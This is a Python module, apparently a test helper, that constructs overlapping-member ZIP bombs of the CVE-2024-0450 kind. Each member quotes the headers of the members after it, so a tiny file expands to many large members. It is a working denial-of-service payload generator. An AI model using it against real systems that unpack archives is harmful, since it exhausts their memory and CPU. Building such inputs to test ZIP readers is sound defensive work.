"""Hostile ZIPs built byte by byte: members whose bytes overlap (the "quoted overlap" ZIP bomb of
CVE-2024-0450), which no ZIP writer makes on purpose.

In a quoted-overlap chain every member's data runs from its own local header to the end of one
shared blob, quoting the local headers of the members after it on the way, so N members of about
one blob each take about one blob of space: reading them all reads about N blobs. Each member is a
valid ZIP member on its own (its name matches its header, its CRC its content), so a reader that
does not compare where members lie reads every one of them in full.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Sequence
from pathlib import Path

_LOCAL = struct.Struct("<4s2B4HL2L2H")
_CENTRAL = struct.Struct("<4s4B4HL2L5H2L")
_END = struct.Struct("<4s4H2LH")
_STORED, _DEFLATED = 0, 8
_DOS_TIME, _DOS_DATE = 0, (2023 - 1980) << 9 | 11 << 5 | 14


def _local(name: bytes, method: int, crc: int, csize: int, usize: int) -> bytes:
    return (
        _LOCAL.pack(
            b"PK\x03\x04", 20, 0, 0, method, _DOS_TIME, _DOS_DATE, crc, csize, usize, len(name), 0
        )
        + name
    )


def _central(name: bytes, method: int, crc: int, csize: int, usize: int, offset: int) -> bytes:
    return (
        _CENTRAL.pack(
            b"PK\x01\x02",
            20,
            3,
            20,
            0,
            0,
            method,
            _DOS_TIME,
            _DOS_DATE,
            crc,
            csize,
            usize,
            len(name),
            0,
            0,
            0,
            0,
            0o100644 << 16,
            offset,
        )
        + name
    )


def _quote(data: bytes) -> bytes:
    """A non-final stored deflate block holding ``data`` (byte-aligned, as every block here is)."""
    return struct.pack("<BHH", 0, len(data), len(data) ^ 0xFFFF) + data


def overlapping_zip(
    path: Path,
    members: Sequence[tuple[str, bytes]],
    chain: Sequence[str],
    blob: bytes,
    *,
    deflate: bool = False,
) -> Path:
    """A ZIP of ordinary stored ``members``, then the members named in ``chain`` overlapping each
    other: member i holds the local headers of members i+1.. and then ``blob``. With ``deflate``
    the shared tail is ``blob`` compressed, and each member quotes the later headers in stored
    deflate blocks, so a tiny file claims many large, highly compressible members."""
    out = bytearray()
    central: list[bytes] = []
    for name, data in members:
        raw = name.encode("utf-8")
        crc = zlib.crc32(data)
        central.append(_central(raw, _STORED, crc, len(data), len(data), len(out)))
        out += _local(raw, _STORED, crc, len(data), len(data)) + data
    method = _DEFLATED if deflate else _STORED
    if deflate:
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        tail = packer.compress(blob) + packer.flush()
    else:
        tail = blob
    # Built from the last member back: each one's header must be known before it can be quoted.
    records: list[tuple[bytes, int, int, int]] = []  # header, CRC, compressed and full size
    content, data = blob, tail
    for name in reversed(chain):
        crc = zlib.crc32(content)
        header = _local(name.encode("utf-8"), method, crc, len(data), len(content))
        records.insert(0, (header, crc, len(data), len(content)))
        content = header + content
        data = (_quote(header) if deflate else header) + data
    # Laid out: header 1, [quote] header 2, [quote] header 3, ..., the tail.
    for index, (name, (header, crc, csize, usize)) in enumerate(zip(chain, records, strict=True)):
        if deflate and index:
            out += _quote(header)[: -len(header)]
        central.append(_central(name.encode("utf-8"), method, crc, csize, usize, len(out)))
        out += header
    out += tail
    directory = b"".join(central)
    out += directory
    out += _END.pack(
        b"PK\x05\x06",
        0,
        0,
        len(central),
        len(central),
        len(directory),
        len(out) - len(directory),
        0,
    )
    path.write_bytes(bytes(out))
    return path
